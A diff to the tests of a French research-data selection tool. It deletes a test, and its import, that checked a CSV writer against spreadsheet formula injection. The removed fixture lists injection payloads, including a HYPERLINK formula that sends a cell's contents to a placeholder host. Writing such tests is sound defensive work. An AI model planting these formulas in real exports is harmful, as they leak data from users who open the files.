@@ -20,7 +20,6 @@ from assistmed.qual.selection import (
     selection_summary,
     write_candidates,
     write_selection_summary,
-    write_spreadsheet_csv,
 )
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -117,23 +116,6 @@ def test_rule_is_read_from_config_and_described_in_french_with_codebook_labels()
 def test_a_rule_that_does_not_fit_the_codebook_is_refused_naming_the_config_key(answers, minimum, named):
     with pytest.raises(SelectionError, match=named):
         negative_count(HAND, CODEBOOK, SelectionRule(answers, minimum))
-
-
-HOSTILE = ['=HYPERLINK("http://exemple.invalid/?q="&A1;"clic")', "+33 6 00 00 12 34", "-1", "@SUM(A1:A2)", "\tcmd", "\rx", "  =1+1"]
-HARMLESS = ["06 00 00 12 34", "a=b", "Jean-Pierre", "", "1031"]
-
-
-def test_spreadsheet_csv_neutralises_every_cell_a_spreadsheet_would_execute(tmp_path):
-    out = tmp_path / "x.csv"
-    write_spreadsheet_csv(pd.DataFrame({"=Colonne": HOSTILE + [""] * 5, "Autre": HARMLESS + [""] * 7}), out)
-    data = out.read_bytes()
-    assert data.startswith(b"\xef\xbb\xbf")
-    assert data.count(b"\r\n") == data.count(b"\n") == 13  # header + 12 rows, every line ends CRLF
-    back = pd.read_csv(out, sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
-    assert list(back.columns) == ["'=Colonne", "Autre"]
-    assert list(back["'=Colonne"])[:7] == ["'" + v for v in HOSTILE]
-    assert list(back["Autre"])[:5] == HARMLESS
-    assert not [v for column in back for v in [column, *back[column]] if v and v[0] in "=+-@\t\r"]
 
 
 HEADER = (
